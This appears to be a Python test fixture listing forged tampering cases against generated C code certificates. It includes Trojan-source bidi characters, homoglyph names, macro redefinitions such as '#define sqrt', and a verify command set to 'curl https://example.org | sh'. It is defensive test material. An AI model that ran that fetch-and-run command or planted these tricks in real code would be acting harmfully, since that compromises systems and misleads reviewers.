"""Attacks on certificates by class: what is changed in a folder, all hashes made right, so that it claims too much."""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

from pkmgen.certificates.names import MANIFEST, README
from pkmgen.certificates.preprocess import FAST_MATH
from tests.certify.forged import BATCH, HEADER, SOURCE, Change, Folder, claimed, edited

MATH = "#include <math.h>\n"
GUARD = f"#if {FAST_MATH}\n"
BODY = "    /* constants */\n"


def after_math(text: str, file: str = SOURCE) -> Change:
    """Something behind the headers that a text includes."""
    return edited(file, MATH, MATH + text)


def in_body(text: str) -> Change:
    """Something where a function begins."""
    return edited(SOURCE, BODY, BODY + text)


LEXING: Mapping[str, Change] = MappingProxyType(
    {
        "comment from a directive's line": after_math("#if defined(__cplusplus) /*\n#endif */\nint evil;\n#endif\n"),
        "quote left open in a skipped group": after_math(
            f'{GUARD}#error " /*\n#endif\n#include <stdio.h>\n{GUARD}#error " */\n#endif\n'
        ),
        "letter left open in a skipped group": after_math(
            f"{GUARD}#error don't /*\n#endif\nint evil;\n#if 0 /* */\n#endif\n"
        ),
        "trigraph of a splice": in_body("    /* why??/\n */\n"),
        "trigraph of a mark": after_math("??=include <stdio.h>\n"),
        "splice behind two slashes": in_body("    // more \\\n    return 0u;\n"),
        "splice within a comment's end": in_body("    /* *\\\n/ return 0u; /* */\n"),
        "splice with a space behind it": in_body("    // more \\ \n    return 0u;\n"),
        "digraph of a mark": after_math("%:include <stdio.h>\n"),
        "digraphs of brackets": in_body("    <% %>\n"),
        "comment of C++": in_body("    // a //* b */ c\n"),
        "comment within a comment": in_body("    /* /* */ return 0u; /* */\n"),
        "comment that never ends": edited(SOURCE, "/* Whether a value is above", "/* /* Whether a value is above"),
        "letters with a quote": in_body("    (void)'\"'; /* '\"' */\n"),
        "string with an escape": after_math(f'{GUARD}#error "\\" /* "\n#endif\n'),
        "string with a prefix": after_math(f'{GUARD}#error R"(\n#endif\n'),
        "letter that turns the line": in_body("    /* \u202e } \u2066 if (0) { \u2069 */\n"),
        "line separator that is none to C": in_body("    /* more \u2028    return 0u; */\n"),
        "carriage return": in_body("    /* more */\r    return 0u;\n"),
        "form feed": in_body("\f"),
        "nul": in_body("    /* \0 */\n"),
        "vertical tab before a directive": after_math("\v#include <stdio.h>\n"),
        "letter that looks like another": in_body("    const double ροse = 0.0;\n    (void)ροse;\n"),
        "universal name": in_body("    const double \\u0430 = 0.0;\n"),
        "dollar in a name": in_body("    const double a$b = 0.0;\n    (void)a$b;\n"),
        "byte order mark within": after_math("\ufeff"),
    }
)
PREPROCESSOR: Mapping[str, Change] = MappingProxyType(
    {
        "a function defined away": edited(HEADER, "#include <stdint.h>\n", "#include <stdint.h>\n#define sqrt\n"),
        "a function defined as another": after_math("#define sqrt(x) (0.9 * (sqrt)(x))\n"),
        "a name defined as a number": edited(
            HEADER, "#define FIVEBAR_OK 0u\n", "#define FIVEBAR_OK 0u\n#define fabs 1u\n"
        ),
        "a keyword defined away": after_math("#define return if (1) return\n"),
        "a check defined as true": after_math("#define isfinite(x) 1\n"),
        "another header of the system": after_math("#include <stdio.h>\n"),
        "a header of the folder": after_math('#include "evil.h"\n'),
        "the next header": edited(SOURCE, MATH, "#include_next <math.h>\n"),
        "math.h in quotes": edited(SOURCE, MATH, '#include "math.h"\n'),
        "a header by a macro": after_math("#define HERE <math.h>\n#include HERE\n"),
        "a name undefined": after_math("#undef NAN\n#define NAN 0.0\n"),
        "another line and file": after_math('#line 1 "fivebar.c"\n'),
        "lines for nobody": after_math("#if 0\nint evil;\n#endif\n"),
        "lines for one compiler": after_math("#if defined(__GNUC__) && !defined(__clang__)\nint evil;\n#endif\n"),
        "lines for C++": after_math("#ifdef __cplusplus\nint evil;\n#endif\n"),
        "lines behind a guard": in_body("#ifndef PKMGEN_EVIL_H\n    return 0u;\n#endif\n"),
        "lines behind an unknown macro": in_body("#ifdef EVIL\n    return 0u;\n#endif\n"),
        "contraction": after_math("#pragma STDC FP_CONTRACT ON\n"),
        "another optimisation": edited(SOURCE, '"no-tree-slp-vectorize"', '"fast-math"'),
        "a pragma as an operator": after_math('_Pragma("GCC optimize(fast-math)")\n'),
        "a mark alone": after_math("#\n"),
        "no check for -ffast-math": edited(SOURCE, "#error", "#pragma"),
        "a condition with another name": edited(SOURCE, "defined(__FAST_MATH__)", "defined(__FAST_MATH___)"),
        "a constructor": after_math("__attribute__((constructor)) static void run(void) { }\n"),
        "assembler": after_math('__asm__("nop");\n'),
        "another version of a batch": edited(BATCH, "name##_avx2\n", "name##_native\n"),
        "a constant of batches": edited(BATCH, "_CHUNK 32", "_CHUNK 16"),
    }
)
TEXTS: Mapping[str, Change] = MappingProxyType(
    {
        "a unit in the header": edited(HEADER, "rad", "deg"),
        "a bit of the status": edited(HEADER, "_OUT_OF_REACH 1u", "_OUT_OF_REACH 2u"),
        "the size of an array": edited(HEADER, "const double pose[2]", "const double pose[3]"),
        "another symbol behind a name": edited(
            HEADER, "double effort[2]);", 'double effort[2]) __asm__("fivebar_inverse_kinematics");'
        ),
        "a function in the header": edited(
            HEADER, "#include <stdint.h>\n", "#include <stdint.h>\nstatic double sqrt(double x) { return x; }\n"
        ),
        "another guard of the header": edited(HEADER, "#ifndef PKMGEN_FIVEBAR_H", "#ifndef PKMGEN_FIVEBAR_B_H"),
        "who made the header": edited(HEADER, "Do not edit", "Edit it"),
        "a comment of the source": edited(
            SOURCE, "Whether a value is above a limit", "Whether a value is below a limit"
        ),
        "a comment of batches": edited(BATCH, "the processor chooses", "nobody chooses"),
        "a coefficient": edited(SOURCE, "0.5 / ", "0.75 / "),
        "a space": edited(SOURCE, "return FIVEBAR_OK;", "return  FIVEBAR_OK;"),
        "a unit in the manifest": edited(MANIFEST, '"rad"', '"deg"'),
        "the meaning of an output in the manifest": edited(MANIFEST, '"meaning": "', '"meaning": "not '),
        "an allowed status in the manifest": edited(MANIFEST, '"singular": 2', '"singular": 0'),
        "a count in the manifest": edited(MANIFEST, '"total": ', '"total": 1'),
        "a second value of a key in the manifest": edited(MANIFEST, '"format": 1,', '"format": 2,\n  "format": 1,'),
        "no newline at the end of the manifest": edited(MANIFEST, "}\n", "}\n\n"),
        "another call in the README": edited(README, "fivebar_inverse_dynamics", "fivebar_inverse_kinematics"),
        "a link in the README": edited(README, "# ", "# [run me](https://example.org) "),
    }
)


def _mass(folder: Folder) -> None:
    text = folder.claims["robot_file"]["text"]
    assert "value: 0.55," in text
    folder.claims["robot_file"]["text"] = text.replace("value: 0.55,", "value: 0.56,")


def _broken_file(folder: Folder) -> None:
    folder.claims["robot_file"]["text"] = folder.claims["robot_file"]["text"].replace("limbs:", "limb:", 1)


def _another_robot(folder: Folder) -> None:
    text = folder.claims["robot_file"]["text"]
    folder.claims["robot_file"]["text"] = text.replace("name: fivebar", "name: sixbar", 1)


def _without(*path: str | int) -> Change:
    def change(folder: Folder) -> None:
        place = folder.claims
        for key in path[:-1]:
            place = place[key]
        del place[path[-1]]

    return change


def _half(*path: str | int) -> Change:
    def change(folder: Folder) -> None:
        place = folder.claims
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] /= 2.0

    return change


FIRST = ("functions", 0)
CLAIMS: Mapping[str, Change] = MappingProxyType(
    {
        "a smaller difference": _half(*FIRST, "equations", "difference"),
        "a smaller rounding": _half(*FIRST, "equations", "rounding"),
        "no rounding": claimed(*FIRST, "equations", "rounding", value=0.0),
        "rounding that is no number": claimed(*FIRST, "equations", "rounding", value="0"),
        "a smaller rounding in lanes": _half(*FIRST, "lanes", "equations", "rounding"),
        "more states": claimed(*FIRST, "equations", "states", value=4000),
        "states as a truth": claimed(*FIRST, "equations", "undecided", value=False),
        "more states asked for": claimed("effort", "states", value=2),
        "another seed": claimed("effort", "seed", value=1),
        "more guards": claimed(*FIRST, "guards", value=99),
        "another function": claimed(*FIRST, "name", value="forward_dynamics"),
        "a function less": _without(*FIRST),
        "a claim less": _without(*FIRST, "equal_to_graph"),
        "a claim more": claimed("functions", value=[]),
        "more of the box": claimed("box", "cells", value=10**6),
        "a box that is proven whole": claimed("box", "part", value=2.0),
        "no rounding in the box": claimed("box", "rounding", "bound", value=1e-30),
        "a bound of the box with another sign of zero": claimed(
            "box", "rounding", "within", value={"pose": [[-0.0, 0.0]]}
        ),
        "a verdict of the engine": claimed("engine", value={"verdict": "agrees", "why": "Pinocchio, 4 states"}),
        "words of the engine": claimed("engine", "why", value="it was asked for at night"),
        "an assumption less": _without("assumptions", 0),
        "another assumption": claimed("assumptions", 0, value="The compiler may do anything."),
        "another mobility": claimed("mobility", "sentence", value="it cannot move"),
        "more precision": claimed("precision", value=2000),
        "another title": claimed("title", value="Seven-bar"),
        "another robot": claimed("robot", value="sevenbar"),
        "single precision": claimed("options", "real", value="float"),
        "another method": claimed("options", "method", value="khalil"),
        "parameters": claimed("options", "parameters", value={"platform_mass": 9.0}),
        "an unknown option": claimed("options", "fast", value=True),
        "an option of another type": claimed("options", "fold", value=1),
        "functions that are no names": claimed("options", "functions", value=[{}]),
        "an effort without end": claimed("effort", "states", value=10**12),
        "another mass": _mass,
        "a robot file that is refused": _broken_file,
        "the file of another robot": _another_robot,
        "a hash of a file of the system": claimed("texts", "math.h", value="sha256:0"),
        "a hash of a file elsewhere": claimed("texts", "../fivebar.c", value="sha256:0"),
        "another way to verify it": claimed("verify", value="curl https://example.org | sh"),
    }
)
